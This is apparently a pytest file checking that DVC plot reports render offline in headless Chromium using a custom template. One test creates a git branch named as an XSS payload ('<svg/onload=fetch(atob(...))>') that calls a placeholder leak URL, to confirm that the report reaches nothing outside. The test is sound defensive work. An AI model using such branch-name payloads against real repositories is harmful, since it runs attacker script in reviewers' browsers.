"""`dvc plots show` and `dvc plots diff` write a report that renders in a browser with no network.

A temporary DVC project with plots shaped like ours (a linear plot from TSVs, a confusion plot
from JSON, two PNG image plots) and this repo's `plots.html_template` setting and template is
rendered by real `dvc`, then opened in headless Chromium that cannot resolve any host name.
"""

from __future__ import annotations

import json
import os
import random
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from browser import Result, render
from PIL import Image

from mnist_basics import report

BIN = Path(sys.executable).parent
DVC = str(BIN / "dvc") if (BIN / "dvc").exists() else "dvc"
ENV = {
    **os.environ,
    "DVC_NO_ANALYTICS": "1",
    "GIT_AUTHOR_NAME": "test",
    "GIT_AUTHOR_EMAIL": "test@example.invalid",
    "GIT_COMMITTER_NAME": "test",
    "GIT_COMMITTER_EMAIL": "test@example.invalid",
}

DVC_YAML = """\
plots:
  - Loss:
      template: linear
      x: step
      y:
        metrics/train/loss.tsv: loss
        metrics/valid/loss.tsv: loss
  - Confusion:
      template: confusion
      x: actual
      x_label: actual
      y_label: predicted
      title: Confusion matrix (valid)
      y:
        metrics/evaluate/confusion.json: predicted
  - plots/train/weights.png
  - plots/evaluate/misclassified.png
"""
VEGA_PLOTS = 2
IMAGE_PLOTS = 2


def run(cwd: Path, *args: str, timeout: float = 120) -> str:
    p = subprocess.run(args, cwd=cwd, env=ENV, capture_output=True, text=True, timeout=timeout)
    assert p.returncode == 0, f"{' '.join(args)} failed ({p.returncode}):\n{p.stdout}\n{p.stderr}"
    return p.stdout


def project_config(root: Path, key: str) -> str:
    return run(root, DVC, "config", "--project", key).strip()


def write_data(repo: Path, seed: int) -> None:
    """Loss curves, a confusion list and two PNGs; a different `seed` gives different data."""
    rng = random.Random(seed)  # noqa: S311 - test data, not crypto
    for split, scale in (("train", 1.0), ("valid", 1.2)):
        f = repo / "metrics" / split / "loss.tsv"
        f.parent.mkdir(parents=True, exist_ok=True)
        rows = [f"{s}\t{scale * (1 + seed) / (1 + s) + rng.random() * 0.05:.4f}" for s in range(20)]
        f.write_text("step\tloss\n" + "\n".join(rows) + "\n")
    pairs = []
    for _ in range(200):
        actual = rng.choice("378")
        predicted = actual if rng.random() < 0.85 else rng.choice("378")
        pairs.append({"actual": actual, "predicted": predicted})
    f = repo / "metrics" / "evaluate" / "confusion.json"
    f.parent.mkdir(parents=True, exist_ok=True)
    f.write_text(json.dumps(pairs))
    for rel, size in (
        ("plots/train/weights.png", (28, 28)),
        ("plots/evaluate/misclassified.png", (140, 56)),
    ):
        f = repo / rel
        f.parent.mkdir(parents=True, exist_ok=True)
        img = Image.new("L", size)
        img.putdata([rng.randrange(256) for _ in range(size[0] * size[1])])
        img.save(f)


@pytest.fixture(scope="module")
def plots_repo(tmp_path_factory: pytest.TempPathFactory, project_root: Path) -> Path:
    """A git + DVC repo with two commits of plot data and this project's html_template."""
    repo = tmp_path_factory.mktemp("plots_repo")
    run(repo, "git", "init", "-q")
    run(repo, DVC, "init", "-q")
    run(repo, DVC, "config", "core.check_update", "false")
    setting = project_config(project_root, "plots.html_template")
    run(repo, DVC, "config", "plots.html_template", setting)
    template = project_root / ".dvc" / setting
    (repo / ".dvc" / setting).parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(template, repo / ".dvc" / setting)
    (repo / "dvc.yaml").write_text(DVC_YAML)
    write_data(repo, seed=0)
    run(repo, "git", "add", "-A")
    run(repo, "git", "commit", "-q", "-m", "first")
    write_data(repo, seed=1)
    run(repo, "git", "add", "-A")
    run(repo, "git", "commit", "-q", "-m", "second")
    return repo


def vega_ids(html: Path) -> list[str]:
    return re.findall(r"vegaEmbed\('#([^']+)'", html.read_text(encoding="utf-8"))


def assert_renders_offline(html: Path, result: Result, images: int) -> None:
    info = result.summary()
    assert result.errors == [], info
    assert result.external_requests == [], info
    assert len(vega_ids(html)) == VEGA_PLOTS, info
    assert len(result.vega_plots) == VEGA_PLOTS, info
    assert all(p.charts == 1 for p in result.vega_plots), info
    assert len(result.images) == images, info
    assert all(i.loaded for i in result.images), info


# --- the committed template and config ------------------------------------------------------


def test_config_points_at_committed_template(project_root: Path) -> None:
    assert project_config(project_root, "plots.html_template") == report.CONFIG_VALUE
    template = project_root / report.TEMPLATE_RELPATH
    assert template == project_root / ".dvc" / report.CONFIG_VALUE
    text = template.read_text(encoding="utf-8")
    assert text.count("{plot_divs}") == 1
    assert "{scripts}" not in text  # where DVC would put its CDN <script src=...> tags
    assert not re.search(r"<script[^>]+src=", text)
    assert "window.vegaEmbed" in text
    assert template.stat().st_size < 3_000_000


def test_template_is_up_to_date(project_root: Path) -> None:
    pytest.importorskip(
        "vl_convert",
        reason="vl-convert-python (a dev dependency) is needed to regenerate the template",
    )
    expected = report.build_template()
    actual = (project_root / report.TEMPLATE_RELPATH).read_text(encoding="utf-8")
    assert actual == expected, "stale template: run `python -m mnist_basics.report`"


def test_report_check_command(tmp_path: Path) -> None:
    pytest.importorskip("vl_convert", reason="vl-convert-python is not installed")
    out = tmp_path / "offline.html"
    assert report.main(["--out", str(out), "--check"]) == 1
    assert report.main(["--out", str(out)]) == 0
    assert report.main(["--out", str(out), "--check"]) == 0


# --- real dvc, real browser --------------------------------------------------------------


@pytest.mark.e2e
def test_plots_show_renders_offline(plots_repo: Path, chromium: Path, tmp_path: Path) -> None:
    out = tmp_path / "show"
    run(plots_repo, DVC, "plots", "show", "-o", str(out))
    html = out / "index.html"
    assert_renders_offline(html, render(html), images=IMAGE_PLOTS)


@pytest.mark.e2e
def test_plots_diff_renders_offline(plots_repo: Path, chromium: Path, tmp_path: Path) -> None:
    out = tmp_path / "diff"
    run(plots_repo, DVC, "plots", "diff", "HEAD~1", "HEAD", "-o", str(out))
    html = out / "index.html"
    text = html.read_text(encoding="utf-8")
    # both revisions are in the page: two images per image plot, both revs in the data
    assert text.count('<img src="static/') == 2 * IMAGE_PLOTS
    assert_renders_offline(html, render(html), images=2 * IMAGE_PLOTS)


LEAK = "http://203.0.113.9/leak"  # TEST-NET-3: no host answers, none is asked


@pytest.mark.e2e
def test_a_branch_named_as_markup_reaches_nothing_outside_the_report(
    plots_repo: Path, chromium: Path, tmp_path: Path
) -> None:
    """dvc-render puts revision names into the page unescaped, and git allows a branch named
    `<svg/onload=...>`: a reviewer's `dvc plots diff` of a pushed branch runs its script."""
    import base64

    repo = tmp_path / "repo"
    shutil.copytree(plots_repo, repo)
    name = f"<svg/onload=fetch(atob('{base64.b64encode(LEAK.encode()).decode()}'))>"
    run(repo, "git", "branch", name, "HEAD~1")
    out = tmp_path / "diff"
    run(repo, DVC, "plots", "diff", name, "HEAD", "-o", str(out))
    assert name in (out / "index.html").read_text(encoding="utf-8")  # as DVC wrote it
    result = render(out / "index.html")
    assert not [u for u in result.external_requests if u.startswith(LEAK)], result.summary()
    assert len(result.vega_plots) == VEGA_PLOTS and all(i.loaded for i in result.images)


@pytest.mark.e2e
def test_default_dvc_template_fails_offline(
    plots_repo: Path, chromium: Path, tmp_path: Path
) -> None:
    """The negative control: DVC's own page (CDN scripts) draws nothing in the same browser."""
    out = tmp_path / "default"
    env_repo = tmp_path / "repo"
    shutil.copytree(plots_repo, env_repo)
    run(env_repo, DVC, "config", "--unset", "plots.html_template")
    run(env_repo, DVC, "plots", "show", "-o", str(out))
    result = render(out / "index.html")
    info = result.summary()
    assert result.external_requests, info
    assert result.errors, info
    assert any("vegaEmbed is not defined" in e for e in result.exceptions), info
    assert len(result.vega_plots) == VEGA_PLOTS, info
    assert result.charts == 0, info
    assert all(i.loaded for i in result.images), info  # images never needed the network
